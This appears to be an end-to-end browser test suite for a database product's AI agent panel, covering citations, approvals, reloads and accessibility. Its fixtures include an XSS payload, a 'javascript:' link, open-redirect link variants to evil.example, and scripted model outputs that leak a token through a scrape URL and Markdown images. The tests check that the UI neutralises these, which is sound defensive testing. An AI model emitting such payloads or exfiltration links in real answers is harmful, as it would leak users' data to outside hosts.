// @module-tag long
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { type Crawler, startCrawler } from '../../services/testing/crawler.ts'
import { startProduct, type Product } from '../../services/testing/product.ts'
import { startSeededHost } from '../../services/testing/seeded-hosts.ts'
import {
  extractEvidenceIds,
  createGatewayVariables,
  type ModelScript,
  type ScriptedGateway,
  startScriptedGateway,
} from '../../services/testing/scripted-gateway.ts'
import { fetchText } from '../../services/sandbox/curl.ts'
import type { Sandbox } from '../../services/sandbox/start.ts'
import { expectVisible, openBrowser, waitUntil, type TestBrowser, type Visit } from './browser.ts'
import { findAccessibilityViolations } from './accessibility-violations.ts'

vi.setConfig({ testTimeout: 180_000, hookTimeout: 180_000 })

let sandbox: Sandbox
let gateway: ScriptedGateway
let product: Product
let browser: TestBrowser
let crawler: Crawler
const scrape = 'mcp_web_crawl__firecrawl_scrape'
const scope = new AsyncDisposableStack()
const say = (text: string) => ({ say: [{ text }] })
const call = (name: string, input: Record<string, unknown>) => ({ say: [{ call: name, with: input }] })

beforeAll(async () => {
  sandbox = scope.use(await startSeededHost('one'))
  gateway = scope.use(await startScriptedGateway({ script: [say('yes')] }))
  crawler = scope.use(await startCrawler('A page.'))
  const env = { ...createGatewayVariables(gateway), RATE_LIMIT_AGENT_PER_MIN: '100000', ...crawler.variables }
  product = scope.use(await startProduct({ hosts: [{ url: sandbox.url, name: 'one' }], env }))
  browser = scope.use(await openBrowser())
})
afterAll(() => scope.disposeAsync())

const open = async (options = {}): Promise<Visit> => {
  const visit = await browser.visit(options)
  await visit.page.goto(`${product.url}/agents?host=0`)
  await expectVisible(question(visit))
  await visit.networkIdle()
  return visit
}
const question = ({ page }: Visit) => page.getByRole('textbox', { name: 'Your question', exact: true })
const answer = ({ page }: Visit) => page.getByRole('article', { name: 'Answer', exact: true }).last()
const answered = ({ page }: Visit) => expectVisible(page.getByRole('status').filter({ hasText: 'Answered.' }))
const ask = async (visit: Visit, text: string, script: ModelScript) => {
  gateway.play(script)
  await question(visit).fill(text)
  await question(visit).press('Enter')
}

const sql = "SELECT 'shop' AS name, 42 AS orders"
const cited: ModelScript = (request) => {
  const [evidence] = extractEvidenceIds(request)
  if (!evidence) return call('query', { sql })
  return say(`## What there is\n\nIt has **42 orders** [${evidence}]. <img src=x onerror=alert(1)>\n\n- one\n- two`)
}

describe('a question', () => {
  it('is answered with tool calls, rows and evidence that open in the console', async () => {
    const visit = await open()
    await ask(visit, 'How many orders?', cited)
    await answered(visit)
    await expectVisible(answer(visit).getByRole('heading', { name: 'What there is', exact: true }))
    await expect.poll(() => answer(visit).getByRole('listitem').allInnerTexts()).toEqual(['one', 'two'])
    // HTML in the answer of a model is shown as plain text.
    await expectVisible(answer(visit).getByText('<img src=x onerror=alert(1)>'))
    await expectVisible(answer(visit).getByText(/tokens$/))
    await answer(visit).locator('summary').filter({ hasText: 'query' }).first().click()
    const rows = answer(visit).getByRole('table', { name: 'Rows of query', exact: true })
    await expectVisible(rows)
    await expect.poll(() => rows.getByRole('cell').allInnerTexts()).toEqual(['shop', '42'])
    await answer(visit).getByRole('button', { name: 'Evidence e1', exact: true }).first().click()
    const evidence = visit.page.getByRole('dialog', { name: 'Evidence e1', exact: true })
    await expectVisible(evidence.getByText('1 row', { exact: true }))
    const link = await evidence.getByRole('link', { name: 'Open in console', exact: true }).getAttribute('href')
    expect(new URLSearchParams(link?.split('?')[1]).get('sql')).toBe(sql)
    expect(visit.consoleErrors).toEqual([])
  })

  it('is marked where a figure does not follow from the cited result, and shows a correction instead', async () => {
    const visit = await open()
    const wrong = say('It has 99999 orders [e1].')
    await ask(visit, 'How many orders?', [call('query', { sql }), wrong, wrong])
    await answered(visit)
    const mark = answer(visit).getByText('Not confirmed by the cited result: 99999', { exact: true })
    await expectVisible(mark)
    expect(await findAccessibilityViolations(visit)).toEqual([])
    await ask(visit, 'How many orders now?', (request) => {
      const [evidence] = extractEvidenceIds(request)
      if (!evidence) return call('query', { sql })
      const isCorrection = /do not follow/.test(request.messages.at(-1)?.content ?? '')
      return say(`It has ${isCorrection ? 42 : 88888} orders [${evidence}].`)
    })
    await expectVisible(answer(visit).getByText(/^It has 42 orders/))
    await expectVisible(answer(visit).getByText(/^Corrected answer: .*88888/))
    expect(
      await answer(visit)
        .getByText(/It has 88888/)
        .count(),
    ).toBe(0)
    expect(visit.consoleErrors).toEqual([])
  })

  it('stays, with its answer, after a reload, and can be deleted', async () => {
    const visit = await open()
    await ask(visit, 'Is it well?', [say('All is well.')])
    await answered(visit)
    await visit.page.waitForURL(/chat=/)
    await visit.page.reload()
    await expectVisible(answer(visit).getByText('All is well.'))
    const list = visit.page.getByRole('navigation', { name: 'Conversations', exact: true })
    await expectVisible(list.getByRole('link', { name: /Is it well/ }))
    await list.getByRole('button', { name: 'Delete Is it well?', exact: true }).click()
    await waitUntil(async () => (await list.getByRole('link', { name: /Is it well/ }).count()) === 0)
    await waitUntil(async () => (await visit.page.getByRole('article').count()) === 0)
  })

  it('keeps links within the site and shows the full URL of external links', async () => {
    const visit = await open()
    const backslash = '\\'
    const targets = {
      own: '/tables/parts?sort=rows.desc',
      one: `/${backslash}evil.example`,
      two: `${backslash}${backslash}${backslash}${backslash}evil.example`,
      three: '//evil.example',
      four: '/.//evil.example',
      five: `/.${backslash}${backslash}${backslash}evil.example`,
      six: 'javascript:alert(1)',
    }
    const links = Object.entries(targets).map(([name, target]) => `[${name}](${target})`)
    await ask(visit, 'Where to?', [say(links.join(' '))])
    await answered(visit)
    await expectVisible(answer(visit).getByRole('link', { name: 'own', exact: true }))
    const found = await answer(visit)
      .getByRole('paragraph')
      .getByRole('link')
      .evaluateAll((all) =>
        all.map((link) => ({
          // These properties contain the resolved URL, however the `href` attribute is written.
          origin: (link as HTMLAnchorElement).origin,
          address: (link as HTMLAnchorElement).href,
          text: link.textContent,
          target: link.getAttribute('target'),
        })),
      )
    const [own, ...others] = found
    expect(own).toMatchObject({ origin: product.url, text: 'own', target: null })
    for (const link of others) expect(link).toMatchObject({ text: link.address, target: '_blank' })
    expect(others.map(({ origin }) => origin)).toEqual([
      'http://evil.example',
      'http://evil.example',
      'http://evil.example',
    ])
    await answer(visit).getByRole('link', { name: 'own', exact: true }).click()
    await visit.page.waitForURL(/tables\/parts/)
    expect(new URL(visit.page.url()).origin).toBe(product.url)
  })

  it('can be edited and sent again', async () => {
    const visit = await open()
    await ask(visit, 'First?', [say('The first answer.')])
    await answered(visit)
    gateway.play([say('The second answer.')])
    await answer(visit).getByRole('button', { name: 'Retry', exact: true }).click()
    await expectVisible(answer(visit).getByText('The second answer.'))
    await answered(visit)
    gateway.play([say('The third answer.')])
    await visit.page.getByRole('button', { name: 'Edit question', exact: true }).click()
    await visit.page.getByRole('textbox', { name: 'Edit question', exact: true }).fill('Other?')
    await visit.page.getByRole('button', { name: 'Save and resend', exact: true }).click()
    await expectVisible(answer(visit).getByText('The third answer.'))
    await expect.poll(() => visit.page.getByRole('article').count()).toBe(2)
  })
})

describe('an answer', () => {
  it('continues after a reload, and stops on request', async () => {
    const visit = await open()
    await ask(visit, 'At length?', [{ say: [{ text: 'word by word '.repeat(2_000) }], tokensPerSecond: 20 }])
    await expectVisible(answer(visit).getByText(/^word by word/))
    await visit.page.waitForURL(/chat=/)
    await visit.page.reload()
    await expectVisible(answer(visit).getByText(/^word by word/))
    await visit.page.getByRole('button', { name: 'Stop', exact: true }).click()
    await expectVisible(answer(visit).getByText('Stopped.'))
    await expectVisible(visit.page.getByRole('button', { name: 'Ask', exact: true }))
    await waitUntil(() => gateway.abandoned > 0)
  })

  it('may ask a question, and continues with the choice', async () => {
    const visit = await open()
    const input = { question: 'Which table?', kind: 'single_choice', options: ['orders', 'events'] }
    await ask(visit, 'Look at it', [call('ask_user', input)])
    const form = visit.page.getByRole('form', { name: 'Which table?', exact: true })
    await expectVisible(form.getByRole('button', { name: 'events', exact: true }))
    gateway.play(() => say('So events it is.'))
    await form.getByRole('button', { name: 'events', exact: true }).click()
    await expectVisible(answer(visit).getByText('So events it is.'))
    await expectVisible(form.getByText('You answered: events'))
    expect(gateway.violations).toEqual([])
  })

  it('changes a host only after an approval', async () => {
    const visit = await open()
    await fetchText(sandbox.url, 'CREATE TABLE IF NOT EXISTS shop.of_agent (a UInt8) ENGINE = MergeTree ORDER BY a')
    await ask(visit, 'Merge it', [call('optimize_table', { database: 'shop', table: 'of_agent' }), say('That was it.')])
    const approval = visit.page.getByRole('region', { name: 'Approval', exact: true })
    await expectVisible(approval.getByText('of_agent'))
    await approval.getByRole('button', { name: 'Approve and run', exact: true }).click()
    await expectVisible(approval.getByText('Approved and run.'))
    await answered(visit)
  })

  it('sends data of a host to an external server only after approval', async () => {
    const visit = await open()
    const url = 'https://docs.example.com/?d=Tango-9134-victor'
    const leaking = [call('query', { sql: "SELECT 'Tango-9134-victor' AS token" }), call(scrape, { url }), say('Done.')]
    await ask(visit, 'What is new?', leaking)
    const request = visit.page.getByRole('region', { name: 'Approval to send data', exact: true })
    await expectVisible(request.getByText(url))
    await expect.poll(() => request.locator('mark').allInnerTexts()).toEqual(['Tango-9134-victor'])
    await request.getByRole('button', { name: 'Deny', exact: true }).click()
    await expectVisible(request.getByText('Denied; nothing was sent.'))
    await answered(visit)
    expect(crawler.sent).toEqual([])
    await ask(visit, 'And now?', leaking)
    await request.last().getByRole('button', { name: 'Approve and send', exact: true }).click()
    await expectVisible(request.last().getByText('Approved and sent.'))
    await answered(visit)
    expect(crawler.sent).toEqual([{ url }])
  })

  it('loads nothing from other sites and shows the full URL of links', async () => {
    const visit = await open()
    const requested: string[] = []
    visit.page.on('request', (request) => requested.push(request.url()))
    const address = 'https://evil.example.com/?d=Tango-9134-victor'
    const forms = [`![status](${address})`, `![][1]`, `<img src="${address}">`, `[the fix](${address})`, `<${address}>`]
    await ask(visit, 'Any pictures?', [say(`${forms.join('\n\n')}\n\n[1]: ${address}`)])
    await answered(visit)
    const links = answer(visit).getByRole('link')
    // The page shows raw text until the Markdown parser is loaded, so poll for the links.
    await expect.poll(() => links.allInnerTexts()).toEqual([address, address])
    expect(await answer(visit).locator('img, iframe, object, video, link, style').count()).toBe(0)
    await links.first().hover()
    expect(requested.filter((each) => !each.startsWith(product.url))).toEqual([])
    expect(visit.consoleErrors).toEqual([])
  })

  it('shows the reason for a failure', async () => {
    const visit = await open()
    await ask(visit, 'Anything?', [{ status: 401 }])
    await expectVisible(answer(visit).getByRole('alert').getByText('provider-key-refused'))
    await expectVisible(answer(visit).getByRole('button', { name: 'Retry', exact: true }))
  })
})

describe('the page of the agent', () => {
  it('draws charts and plans, without findings in either theme', async () => {
    // Reduced motion disables transitions, because their intermediate colours may lack contrast.
    const visit = await open({ colorScheme: 'light', reducedMotion: 'reduce' })
    const chart = { title: 'Two tables', sql: "SELECT 'a' AS t, 5 AS n", kind: 'bar', x: 't', y: ['n'] }
    const steps = ['in_progress', 'pending'].map((status, index) => ({ title: `Step ${index + 1}`, status }))
    await ask(visit, 'Draw it', [
      call('update_plan', { steps }),
      call('query_and_visualize', chart),
      say('It is in the chart [e1].'),
    ])
    await answered(visit)
    await expectVisible(visit.page.getByRole('region', { name: 'Plan', exact: true }).getByText('Step 1'))
    await expectVisible(visit.page.getByRole('region', { name: 'Two tables', exact: true }))
    await answer(visit).locator('summary').first().click()
    await visit.networkIdle()
    expect(await findAccessibilityViolations(visit)).toEqual([])
    await visit.page.emulateMedia({ colorScheme: 'dark', reducedMotion: 'reduce' })
    expect(await findAccessibilityViolations(visit)).toEqual([])
  })

  it('fits a phone', async () => {
    const visit = await open({ viewport: { width: 390, height: 844 } })
    await ask(visit, 'How many orders?', cited)
    await answered(visit)
    await answer(visit).locator('summary').first().click()
    expect(await visit.page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390)
  })
})

describe('the agent panel', () => {
  const beside = ({ page }: Visit) => page.getByRole('complementary', { name: 'Agent', exact: true })
  const openBeside = async (path: string, options = {}): Promise<Visit> => {
    const visit = await browser.visit(options)
    await visit.page.goto(`${product.url}${path}`)
    await expectVisible(visit.page.getByRole('heading', { level: 1 }))
    await visit.networkIdle()
    await visit.page.keyboard.press('a')
    await expectVisible(question(visit))
    return visit
  }
  const place = '/explorer?host=0&database=shop&table=orders&range=6h'

  it('receives the context of the page without removed parts', async () => {
    const visit = await openBeside(place)
    await waitUntil(() => question(visit).evaluate((field) => field === document.activeElement))
    const chips = beside(visit).getByRole('list', { name: 'Page context sent to the agent', exact: true })
    await expectVisible(chips.getByText('Last 6 hours'))
    await chips.getByRole('button', { name: 'Remove Page Explorer', exact: true }).click()
    let requestText = ''
    await ask(visit, 'What is in it?', (request) => {
      requestText = JSON.stringify(request)
      return say('Orders of the shop.')
    })
    await answered(visit)
    expect(requestText).toContain('shop.orders')
    expect(requestText).toContain('Last 6 hours')
    expect(requestText).not.toContain('has opened the page')
    await chips.getByRole('button', { name: 'Restore all', exact: true }).click()
    await expectVisible(chips.getByText('Page Explorer'))
    expect(visit.consoleErrors).toEqual([])
  })

  it('keeps its conversation across pages and opens it as a full page', async () => {
    const visit = await openBeside(place)
    await ask(visit, 'Is it well?', [say('All is well.')])
    await answered(visit)
    await visit.page.getByRole('link', { name: 'Fleet', exact: true }).click()
    await expectVisible(visit.page.getByRole('heading', { level: 1, name: 'Fleet', exact: true }))
    await expectVisible(answer(visit).getByText('All is well.'))
    await expectVisible(beside(visit).getByText('Page Fleet'))
    await question(visit).press('Escape')
    await waitUntil(async () => (await beside(visit).count()) === 0)
    const opener = visit.page.getByRole('button', { name: 'Ask the agent about this page', exact: true })
    await waitUntil(() => opener.evaluate((button) => button === document.activeElement))
    await opener.press('Enter')
    await expectVisible(answer(visit).getByText('All is well.'))
    await beside(visit).getByRole('link', { name: 'Open full page', exact: true }).click()
    await visit.page.waitForURL(/agents.*chat=/)
    await expectVisible(answer(visit).getByText('All is well.'))
    await waitUntil(async () => (await beside(visit).count()) === 0)
    await waitUntil(() => opener.isDisabled())
  })

  it('fits a phone and has no accessibility violations in either theme', async () => {
    const visit = await openBeside(place, { viewport: { width: 390, height: 844 }, reducedMotion: 'reduce' })
    await ask(visit, 'How many orders?', cited)
    await answered(visit)
    expect(await visit.page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390)
    await visit.networkIdle()
    for (const colorScheme of ['light', 'dark'] as const) {
      await visit.page.emulateMedia({ colorScheme, reducedMotion: 'reduce' })
      expect(await findAccessibilityViolations(visit)).toEqual([])
    }
  })
})
